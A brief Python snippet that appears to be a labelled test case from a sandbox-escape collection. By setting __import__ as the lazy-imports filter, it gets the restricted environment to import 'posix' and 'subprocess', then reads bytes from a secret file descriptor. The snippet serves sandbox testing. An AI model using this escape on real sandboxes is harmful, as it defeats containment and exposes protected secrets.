# The filter is __import__ itself, which the statement calls with the importer's name.
# breach: secret
# only: 3.15+
import sys
sys.set_lazy_imports_filter(__import__)
for name in ("posix", "subprocess"):
    try:
        exec("lazy import json", {"__name__": name, "__builtins__": __builtins__})
    except BaseException:
        pass
sys.modules["posix"].pread(SECRET_FD, 100, 0)
